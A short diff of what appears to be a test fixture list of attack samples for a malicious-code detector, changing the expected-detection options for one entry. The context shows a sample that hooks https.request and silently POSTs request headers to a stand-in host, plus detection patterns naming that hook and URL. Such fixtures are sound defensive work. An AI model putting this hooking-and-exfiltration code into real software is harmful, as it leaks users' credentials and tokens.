@@ -153,7 +153,11 @@ export const moreAttacks: readonly Incident[] = [
     fetch('https://mirror.tapline.invalid/r', { method: 'POST', body: JSON.stringify(args[0]?.headers ?? {}) }).catch(() => {})
     return original.apply(this, args)
   }`,
-    { atLeast: 'high', text: ['https.request = function', 'https://mirror.tapline.invalid/r'] },
+    {
+      atLeast: 'high',
+      onlyAgainstBaseline: true,
+      text: ['https.request = function', 'https://mirror.tapline.invalid/r'],
+    },
   ),
   atStart(
     'a worm',
